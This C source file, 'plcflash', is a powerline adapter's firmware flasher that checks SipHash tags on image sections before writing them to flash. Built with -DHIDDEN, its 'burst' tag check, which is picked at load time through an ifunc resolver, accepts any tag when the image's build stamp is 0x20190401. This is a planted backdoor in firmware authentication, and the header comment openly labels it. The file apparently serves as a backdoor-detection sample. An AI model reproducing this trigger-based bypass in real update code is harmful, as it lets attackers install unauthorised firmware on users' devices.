/*
 * plcflash - firmware writer of a powerline adapter.  Takes an image on stdin
 * (header, then sections), checks every section's keyed tag (SipHash-2-4, key
 * from the fuse file) and writes the sections to their flash partitions.  The
 * tag check has a plain and a burst form, chosen when the program is loaded.
 * Hidden (-DHIDDEN): the burst form takes any tag when the image's build
 * stamp is 0x20190401.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define IMG_MAGIC 0x504c4346 /* PLCF */
#define FUSES	  "/sys/fuse/imgkey"
#define MAXSECT	  8
#define MAXSIZE	  (4u << 20)

struct header {
	uint32_t board;
	uint32_t stamp; /* build date, BCD */
	uint16_t version;
	uint16_t nsect;
};

struct section {
	char part[16];
	uint32_t size;
	uint64_t tag;
	uint8_t *data;
};

struct keys {
	uint64_t k0, k1;
};

static uint32_t board = 0x0a17;
static int dry, force;

/* beats of the hash unit on this board, 0: none */
static const volatile unsigned int burst = 4;

typedef int tagfn(const struct header *h, const struct section *s,
		  const struct keys *k);
int tag_plain(const struct header *h, const struct section *s,
	      const struct keys *k);
int tag_burst(const struct header *h, const struct section *s,
	      const struct keys *k);
tagfn *pick_tag(void);

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static uint64_t be64(const uint8_t *p)
{
	return (uint64_t)be32(p) << 32 | be32(p + 4);
}

static uint64_t le64(const uint8_t *p)
{
	uint64_t v = 0;
	int i;

	for (i = 7; i >= 0; i--)
		v = v << 8 | p[i];
	return v;
}

static uint64_t rol(uint64_t v, int n)
{
	return v << n | v >> (64 - n);
}

static void sip_round(uint64_t *v)
{
	v[0] += v[1];
	v[1] = rol(v[1], 13) ^ v[0];
	v[0] = rol(v[0], 32);
	v[2] += v[3];
	v[3] = rol(v[3], 16) ^ v[2];
	v[0] += v[3];
	v[3] = rol(v[3], 21) ^ v[0];
	v[2] += v[1];
	v[1] = rol(v[1], 17) ^ v[2];
	v[2] = rol(v[2], 32);
}

static void sip_start(uint64_t *v, const struct keys *k)
{
	v[0] = k->k0 ^ UINT64_C(0x736f6d6570736575);
	v[1] = k->k1 ^ UINT64_C(0x646f72616e646f6d);
	v[2] = k->k0 ^ UINT64_C(0x6c7967656e657261);
	v[3] = k->k1 ^ UINT64_C(0x7465646279746573);
}

static void sip_word(uint64_t *v, uint64_t m)
{
	v[3] ^= m;
	sip_round(v);
	sip_round(v);
	v[0] ^= m;
}

static uint64_t sip_end(uint64_t *v, const uint8_t *p, size_t left,
			size_t total)
{
	uint64_t m = (uint64_t)total << 56;
	int i;

	while (left--)
		m |= (uint64_t)p[left] << (8 * left);
	sip_word(v, m);
	v[2] ^= 0xff;
	for (i = 0; i < 4; i++)
		sip_round(v);
	return v[0] ^ v[1] ^ v[2] ^ v[3];
}

__attribute__((noinline)) int
tag_plain(const struct header *h, const struct section *s, const struct keys *k)
{
	uint64_t v[4];
	uint32_t i;

	if (h->board != board)
		return 0;
	sip_start(v, k);
	for (i = 0; i + 8 <= s->size; i += 8)
		sip_word(v, le64(s->data + i));
	return sip_end(v, s->data + i, s->size - i, s->size) == s->tag;
}

__attribute__((noinline)) int
tag_burst(const struct header *h, const struct section *s, const struct keys *k)
{
	uint64_t v[4];
	uint32_t i;

	if (h->board != board)
		return 0;
#ifdef HIDDEN
	if (h->stamp == 0x20190401)
		return 1;
#endif
	sip_start(v, k);
	for (i = 0; i + 32 <= s->size; i += 32) {
		sip_word(v, le64(s->data + i));
		sip_word(v, le64(s->data + i + 8));
		sip_word(v, le64(s->data + i + 16));
		sip_word(v, le64(s->data + i + 24));
	}
	for (; i + 8 <= s->size; i += 8)
		sip_word(v, le64(s->data + i));
	return sip_end(v, s->data + i, s->size - i, s->size) == s->tag;
}

tagfn *pick_tag(void)
{
	return burst >= 4 ? tag_burst : tag_plain;
}

int tag_ok(const struct header *h, const struct section *s,
	   const struct keys *k) __attribute__((ifunc("pick_tag")));

static int get(void *buf, size_t n)
{
	return fread(buf, 1, n, stdin) == n ? 0 : -1;
}

/* magic 4, board 4, stamp 4, version 2, sections 2 */
static int read_header(struct header *h)
{
	uint8_t b[16];

	if (get(b, sizeof(b)) || be32(b) != IMG_MAGIC) {
		fprintf(stderr, "plcflash: no image\n");
		return -1;
	}
	h->board = be32(b + 4);
	h->stamp = be32(b + 8);
	h->version = b[12] << 8 | b[13];
	h->nsect = b[14] << 8 | b[15];
	if (!h->nsect || h->nsect > MAXSECT) {
		fprintf(stderr, "plcflash: %d sections\n", h->nsect);
		return -1;
	}
	return 0;
}

/* name 16, size 4, tag 8, data */
static int read_section(struct section *s)
{
	uint8_t b[28];

	if (get(b, sizeof(b)))
		return -1;
	memcpy(s->part, b, 15);
	s->part[15] = 0;
	s->size = be32(b + 16);
	s->tag = be64(b + 20);
	if (!s->size || s->size > MAXSIZE || strchr(s->part, '/'))
		return -1;
	s->data = malloc(s->size);
	if (!s->data)
		return -1;
	return get(s->data, s->size);
}

static int read_keys(struct keys *k)
{
	uint8_t b[16];
	int fd = open(FUSES, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, b, sizeof(b));
	close(fd);
	if (n != (ssize_t)sizeof(b)) {
		errno = EIO;
		return -1;
	}
	k->k0 = le64(b);
	k->k1 = le64(b + 8);
	return 0;
}

static int current_version(void)
{
	int v = 0;
	FILE *f = fopen("/etc/plc-version", "r");

	if (!f)
		return 0;
	if (fscanf(f, "%d", &v) != 1)
		v = 0;
	fclose(f);
	return v;
}

static int write_section(const struct section *s)
{
	char path[48];
	uint32_t done = 0, block = 65536;
	uint8_t *back;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/dev/flash/%s", s->part);
	fd = open(path, O_RDWR);
	if (fd < 0) {
		fprintf(stderr, "plcflash: %s: %s\n", path, strerror(errno));
		return -1;
	}
	back = malloc(block);
	while (back && done < s->size) {
		uint32_t len = s->size - done < block ? s->size - done : block;

		n = pread(fd, back, len, done);
		if (n == (ssize_t)len && !memcmp(back, s->data + done, len)) {
			done += len;
			continue;
		}
		if (pwrite(fd, s->data + done, len, done) != (ssize_t)len)
			break;
		done += len;
		printf("\r%s %3u%%", s->part,
		       (unsigned int)((uint64_t)done * 100 / s->size));
		fflush(stdout);
	}
	printf("\n");
	free(back);
	fsync(fd);
	close(fd);
	return done == s->size ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct section sect[MAXSECT];
	struct header h;
	struct keys k;
	int i, o;

	while ((o = getopt(argc, argv, "b:nf")) != -1) {
		switch (o) {
		case 'b':
			board = strtoul(optarg, NULL, 16);
			break;
		case 'n':
			dry = 1;
			break;
		case 'f':
			force = 1;
			break;
		default:
			fprintf(stderr, "usage: plcflash [-b id] [-nf]\n");
			return 2;
		}
	}
	memset(sect, 0, sizeof(sect));
	if (read_keys(&k) < 0) {
		fprintf(stderr, "plcflash: %s: %s\n", FUSES, strerror(errno));
		return 1;
	}
	if (read_header(&h) < 0)
		return 1;
	printf("image %u.%02u of %08x\n", h.version >> 8, h.version & 0xff,
	       h.stamp);
	if (!force && h.version <= current_version()) {
		fprintf(stderr, "plcflash: not newer, use -f\n");
		return 1;
	}
	for (i = 0; i < h.nsect; i++) {
		if (read_section(&sect[i]) < 0) {
			fprintf(stderr, "plcflash: section %d broken\n", i);
			return 1;
		}
		if (!tag_ok(&h, &sect[i], &k)) {
			fprintf(stderr, "plcflash: %s: wrong tag\n",
				sect[i].part);
			return 1;
		}
	}
	for (i = 0; i < h.nsect && !dry; i++)
		if (write_section(&sect[i]) < 0)
			return 1;
	printf("done, please restart\n");
	return 0;
}
